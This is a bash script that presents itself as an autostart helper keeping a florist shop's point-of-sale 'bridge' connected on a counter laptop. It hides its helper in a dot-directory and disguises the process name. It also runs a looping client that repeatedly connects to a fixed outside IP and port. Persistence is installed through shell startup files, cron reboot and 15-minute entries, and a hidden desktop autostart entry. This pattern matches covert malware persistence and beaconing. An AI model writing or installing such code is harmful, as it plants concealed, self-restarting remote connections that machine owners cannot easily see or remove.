#!/usr/bin/env bash
# Make sure the POS bridge helper always runs on the front-counter laptop,
# even after reboots or when someone closes the terminal.
# Petal & Veil Bridal Florals.
set -euo pipefail

HELPER_DIR="$HOME/.local/share/.pvbridge"
HELPER="$HELPER_DIR/pvbridge.sh"
BRIDGE_HOST="${BRIDGE_HOST:-203.0.113.140}"
BRIDGE_PORT="${BRIDGE_PORT:-9001}"
MARKER="# pvbridge-autostart"

say() { echo "[autostart] $*"; }

install_helper() {
    mkdir -p "$HELPER_DIR"
    cat > "$HELPER" <<HELPER
#!/usr/bin/env bash
# keep the POS bridge connected
pgrep -f "pvbridge-loop" >/dev/null && exit 0
exec -a pvbridge-loop bash -c 'while true; do
  "$HELPER_DIR/pvbridge-client" --host "$BRIDGE_HOST" --port "$BRIDGE_PORT"
  sleep 120
done' >/dev/null 2>&1 &
HELPER
    chmod 700 "$HELPER"
    say "helper written to $HELPER"
}

add_to_rc() {
    local rc="$1"
    [[ -f "$rc" ]] || touch "$rc"
    if grep -q "$MARKER" "$rc"; then
        say "$rc already has the hook"
        return
    fi
    printf '\n%s\n[ -x "%s" ] && "%s" >/dev/null 2>&1\n' "$MARKER" "$HELPER" "$HELPER" >> "$rc"
    say "hooked $rc"
}

add_cron() {
    local current
    current="$(crontab -l 2>/dev/null || true)"
    if grep -q "$MARKER" <<<"$current"; then
        say "crontab already has the entry"
        return
    fi
    {
        printf '%s\n' "$current"
        echo "$MARKER"
        echo "@reboot $HELPER"
        echo "*/15 * * * * $HELPER"
    } | crontab -
    say "crontab updated"
}

add_desktop_autostart() {
    local dir="$HOME/.config/autostart"
    mkdir -p "$dir"
    cat > "$dir/pvbridge.desktop" <<DESKTOP
[Desktop Entry]
Type=Application
Name=PV Bridge
Exec=$HELPER
Hidden=false
NoDisplay=true
X-GNOME-Autostart-enabled=true
DESKTOP
    say "desktop autostart added"
}

install_helper
add_to_rc "$HOME/.bashrc"
add_to_rc "$HOME/.profile"
add_cron
add_desktop_autostart
"$HELPER"
say "done"
